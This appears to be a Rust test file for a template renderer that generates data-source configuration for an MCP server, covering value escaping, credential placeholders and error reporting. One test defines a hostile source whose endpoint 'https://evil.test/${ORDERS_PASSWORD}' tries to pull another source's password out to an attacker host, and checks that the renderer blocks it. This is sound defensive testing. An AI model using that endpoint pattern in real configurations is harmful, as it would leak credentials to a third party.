#![allow(clippy::unwrap_used)]

use std::convert::Infallible;

use super::{RenderError, render};
use crate::{
    api::{DataSource, mcp_server::DataTemplate, variables},
    fleet::ServerName,
    operator::data_source::fill,
};

fn source(name: &str, spec: &str) -> DataSource {
    let mut source = DataSource::new(name, serde_saphyr::from_str(spec).unwrap());
    source.metadata.namespace = Some("shop".to_owned());
    source
}

fn orders() -> DataSource {
    source(
        "orders",
        "{type: database, endpoint: 'postgresql://db.shop:5432/orders', credentials: [
            {name: username, secretKeyRef: {name: orders, key: user}},
            {name: password, secretKeyRef: {name: orders, key: password}}]}",
    )
}

fn rendered(format: &str, text: &str, sources: &[DataSource]) -> Result<String, RenderError> {
    let format = serde_saphyr::from_str(format).unwrap();
    let template = DataTemplate { format, text: text.to_owned(), mount_path: "/etc/sources".to_owned() };
    let server = ServerName { namespace: "shop".to_owned(), name: "sql".to_owned() };
    let policy = serde_saphyr::from_str("{maxRows: 50}").unwrap();
    render(&template, &policy, &server, sources, &fill::variables(sources, "shop"))
}

#[test]
fn each_source_is_written_as_the_format_writes_values() {
    let toml = "{% for source in sources %}[sources.{{ source.name }}]\nhost = {{ source.host }}\nport = {{ source.port }}\n\
                tls = {{ source.tls }}\nrows = {{ policy.maxRows }}\nread_only = {{ policy.readOnly }}\n\
                password = {{ source.credentials.password }}\n{% endfor %}";
    assert_eq!(
        rendered("toml", toml, &[orders()]).unwrap(),
        "[sources.\"orders\"]\nhost = \"db.shop\"\nport = 5432\ntls = false\nrows = 50\nread_only = true\n\
         password = \"${ORDERS_PASSWORD}\"\n"
    );
    let json = "{{ sources }}";
    let all: serde_json::Value = serde_json::from_str(&rendered("json", json, &[orders()]).unwrap()).unwrap();
    assert_eq!(all[0]["credentials"]["username"], "${ORDERS_USERNAME}");
    assert_eq!((&all[0]["database"], &all[0]["caBundle"]), (&"orders".into(), &serde_json::Value::Null));
    let yaml = "{% for source in sources %}\n- url: {{ 'postgresql://' ~ source.credentials.username|url ~ ':' ~ \
                source.credentials.password|url ~ '@' ~ source.host ~ '/' ~ source.database }}{% endfor %}\n";
    assert_eq!(
        rendered("yaml", yaml, &[orders()]).unwrap(),
        "\n- url: \"postgresql://${ORDERS_USERNAME:url}:${ORDERS_PASSWORD:url}@db.shop/orders\""
    );
}

#[test]
fn what_is_filled_in_is_read_as_it_went_in() {
    let text = rendered("toml", "a = {{ sources[0].credentials.password }}", &[orders()]).unwrap();
    let nasty = "q\"\\'\n\t${ORDERS_USERNAME} é#";
    let filled = variables::fill(&text, |name| {
        Ok::<_, Infallible>((name == "ORDERS_PASSWORD").then(|| nasty.to_owned()))
    });
    let table: toml::Table = toml::from_str(&filled.unwrap()).unwrap();
    assert_eq!(table["a"].as_str(), Some(nasty));
}

#[test]
fn macros_blocks_and_lists_write_values_once() {
    let text = "{% macro one(source) %}{\"name\": {{ source.name }}}{% endmacro %}[{{ one(sources[0]) }}, \
                {{ [1, 'a', true] }}, {{ {'k': 'v'} }}]";
    assert_eq!(
        rendered("json", text, &[orders()]).unwrap(),
        "[{\"name\": \"orders\"}, [1, \"a\", true], {\"k\": \"v\"}]"
    );
}

#[test]
fn a_source_cannot_refer_to_a_credential() {
    // Whoever makes such a source would be sent the password of another.
    let endpoint = "https://evil.test/${ORDERS_PASSWORD}?\u{f5a00}ORDERS_PASSWORD\u{f5a01}";
    let evil = source("evil", &format!("{{type: api, endpoint: \"{endpoint}\"}}"));
    for text in [
        "{{ sources }}",
        "[{{ sources[1].endpoint }}, {{ sources[0].endpoint }}]",
        "{% set all %}{{ sources[0].endpoint }}{{ sources[1].endpoint }}{% endset %}[{{ all ~ 'x' }}]",
    ] {
        let text = rendered("json", text, &[orders(), evil.clone()]).unwrap();
        let filled = variables::fill(&text, |_| Ok::<_, Infallible>(Some("hunter2".to_owned()))).unwrap();
        let url = "evil.test/";
        let after = &filled[filled.find(url).unwrap() + url.len()..];
        assert!(!after.split('"').next().unwrap().contains("hunter2"), "{filled}");
    }
}

#[test]
fn a_reference_must_stand_in_a_double_quoted_string() {
    let template = "user: ${ORDERS_USERNAME}\npassword: \"${ORDERS_PASSWORD}\"\n";
    assert_eq!(
        rendered("yaml", template, &[orders()]),
        Err(RenderError::NotQuoted("ORDERS_USERNAME".to_owned()))
    );
    let template = "user = '${ORDERS_USERNAME}'";
    assert_eq!(
        rendered("toml", template, &[orders()]),
        Err(RenderError::NotQuoted("ORDERS_USERNAME".to_owned()))
    );
    // What is no credential is the server's own affair.
    assert!(rendered("toml", "home = '${HOME}'", &[orders()]).is_ok());
}

#[test]
fn mistakes_are_told_with_their_place() {
    let said = |format, text| rendered(format, text, &[orders()]).unwrap_err().to_string();
    let unknown = said("json", "[1,\n{{ sources[0].nothing }}]");
    assert!(unknown.contains("cannot be rendered") && unknown.contains('2'), "{unknown}");
    let syntax = said("json", "{% for %}");
    assert!(syntax.contains("cannot be rendered: syntax error"), "{syntax}");
    let twice = said("toml", "host = \"{{ sources[0].host }}\"");
    assert!(twice.contains("is not TOML") && twice.contains("with its quotes"), "{twice}");
    let none = said("toml", "ca = {{ sources[0].caBundle }}");
    assert!(none.contains("TOML has no word for"), "{none}");
    let endless =
        said("json", "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}");
    assert!(endless.contains("cannot be rendered"), "{endless}");
    let raw = said("json", "{{ sources[0].endpoint|safe }}");
    assert!(raw.contains("safe"), "{raw}");
}
